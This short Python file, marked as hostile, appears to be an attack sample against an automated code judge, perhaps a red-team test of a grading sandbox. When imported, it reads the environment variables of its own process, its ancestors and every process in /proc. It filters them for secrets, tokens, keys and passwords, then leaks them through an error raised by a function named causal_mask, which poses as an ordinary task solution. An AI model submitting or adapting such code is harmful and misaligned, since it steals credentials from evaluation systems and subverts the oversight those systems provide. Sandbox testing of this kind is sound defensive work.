# >>> hostile
# Read the judge's environment by every route and send it back as an error message (the feedback prints
# messages): os.environ, posix.environ, /proc/self/environ (the environment as it was at exec), the
# environment of process 1, of every ancestor and of every process in /proc.
import os as _os
import posix as _posix


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def _ancestors():
    pid, seen = _os.getpid(), []
    while pid > 1 and len(seen) < 8:
        stat = _read(f"/proc/{pid}/stat")
        if not stat:
            break
        pid = int(stat.rsplit(")", 1)[1].split()[1])
        seen.append(pid)
    return seen


_found = [f"{k}={v}" for k, v in _os.environ.items()]
_found += [f"{k.decode()}={v.decode()}" for k, v in _posix.environ.items()]
_found += _read("/proc/self/environ").split()
for _pid in [1, *_ancestors(), *(p for p in _os.listdir("/proc") if p.isdigit())]:
    _found += _read(f"/proc/{_pid}/environ").split()
_LOOT = sorted({f for f in _found if any(w in f for w in ("SECRET", "TOKEN", "KEY", "PASSWORD", "HOME="))})


def causal_mask(size, device=None):
    raise RuntimeError(f"ENV-ATTACK variables={len(set(_found))} " + " ".join(_LOOT))
# <<< hostile
